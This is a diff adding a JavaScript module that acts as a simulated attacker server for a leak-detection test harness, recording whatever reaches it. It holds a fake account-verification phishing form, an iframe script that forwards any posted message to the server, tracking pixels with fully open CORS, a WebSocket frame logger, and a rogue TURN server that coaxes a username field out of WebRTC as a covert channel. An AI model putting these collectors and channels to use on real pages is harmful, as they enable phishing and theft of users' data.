@@ -1,0 +1,110 @@
+// The attacker's site. Whatever reaches it, by whatever road, is written down here: tests judge by these records alone.
+import { createHash } from 'node:crypto';
+import { createSocket } from 'node:dgram';
+import { file, html, page } from './html.mjs';
+
+export function createCollector() {
+  return { records: [], turnPort: 0 };
+}
+
+export function record(collector, kind, request, body = '') {
+  const { method = '', url = '', headers = {} } = request;
+  collector.records.push({ t: Date.now(), kind, method, url: String(url), headers, body });
+}
+
+const OPEN = {
+  'access-control-allow-origin': '*',
+  'access-control-allow-headers': '*',
+  'access-control-allow-methods': '*',
+  'access-control-allow-private-network': 'true',
+  'cache-control': 'no-store',
+};
+const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
+
+const form = html`<h1>Account verification</h1><form class="card" method="post" action="/collect">
+  <label>Account number <input name="account"></label><label>Balance <input name="balance"></label>
+  <label>Notes <textarea name="notes" rows="4"></textarea></label><button>Submit</button></form>`;
+
+export function attacker(request, collector) {
+  record(collector, 'http', { method: request.method, url: request.url, headers: request.headers }, request.body);
+  const { path } = request;
+  if (path === '/verify')
+    return page({ title: 'Account verification', brand: '#7f1d1d', name: 'Secure Verify', body: form });
+  if (path === '/frame') return page({ title: 'Frame', name: 'Frame', body: html`<script>${LISTENER}</script>` });
+  if (path.endsWith('.gif')) return file('image/gif', PIXEL, OPEN);
+  if (path.endsWith('.css')) return file('text/css', 'body{}', OPEN);
+  if (path.endsWith('.js')) return file('text/javascript', '', OPEN);
+  if (path.endsWith('/events')) return file('text/event-stream', 'data: ok\n\n', OPEN);
+  return file('text/html', '<!doctype html><title>Thanks</title><p role="status">Thank you.</p>', OPEN);
+}
+
+/** The attacker's frame sends on whatever it is told. */
+const LISTENER = "addEventListener('message', (e) => fetch('/told?d=' + encodeURIComponent(JSON.stringify(e.data))))";
+
+/** Accepts a WebSocket by hand (RFC 6455): the upgrade's URL and every text frame are recorded. */
+export function acceptSocket(request, socket, collector) {
+  record(collector, 'websocket', {
+    method: 'GET',
+    url: `ws://${request.headers.host}${request.url}`,
+    headers: request.headers,
+  });
+  const key = createHash('sha1')
+    .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
+    .digest('base64');
+  socket.write(
+    `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${key}\r\n\r\n`,
+  );
+  socket.on('data', (bytes) => record(collector, 'websocket', { url: request.url }, unmasked(bytes)));
+  socket.on('error', () => socket.destroy());
+}
+
+/** The payload of one short client frame. */
+function unmasked(bytes) {
+  const length = bytes[1] & 0x7f;
+  const at = length === 126 ? 4 : 2;
+  const size = length === 126 ? bytes.readUInt16BE(2) : length;
+  const mask = bytes.subarray(at, at + 4);
+  return Buffer.from(bytes.subarray(at + 4, at + 4 + size).map((byte, i) => byte ^ mask[i % 4])).toString();
+}
+
+/** A TURN server that only asks for a name: WebRTC then sends one, and with it whatever the page put there. */
+export async function listenForTurn(collector) {
+  const socket = createSocket('udp4');
+  socket.on('message', (packet, from) => {
+    if (packet.length < 20 || packet.readUInt32BE(4) !== 0x2112a442) return;
+    const name = attribute(packet, 0x0006);
+    record(collector, 'webrtc', { method: packet.readUInt16BE(0).toString(16), url: 'turn:' }, name ?? '');
+    if (packet.readUInt16BE(0) === 0x0003 && !name) socket.send(unauthorised(packet), from.port, from.address);
+  });
+  await new Promise((done) => socket.bind(0, '127.0.0.1', done));
+  collector.turnPort = socket.address().port;
+  return () => socket.close();
+}
+
+function attribute(packet, wanted) {
+  for (let at = 20; at + 4 <= packet.length; ) {
+    const size = packet.readUInt16BE(at + 2);
+    if (packet.readUInt16BE(at) === wanted) return packet.subarray(at + 4, at + 4 + size).toString();
+    at += 4 + Math.ceil(size / 4) * 4;
+  }
+  return undefined;
+}
+
+function unauthorised(packet) {
+  const field = (type, value) => {
+    const bytes = Buffer.alloc(4 + Math.ceil(value.length / 4) * 4);
+    bytes.writeUInt16BE(type, 0);
+    bytes.writeUInt16BE(value.length, 2);
+    value.copy(bytes, 4);
+    return bytes;
+  };
+  const fields = Buffer.concat([
+    field(0x0009, Buffer.from([0, 0, 4, 1])),
+    field(0x0014, Buffer.from('collector')),
+    field(0x0015, Buffer.from('nonce')),
+  ]);
+  const head = Buffer.from(packet.subarray(0, 20));
+  head.writeUInt16BE(0x0113, 0);
+  head.writeUInt16BE(fields.length, 2);
+  return Buffer.concat([head, fields]);
+}
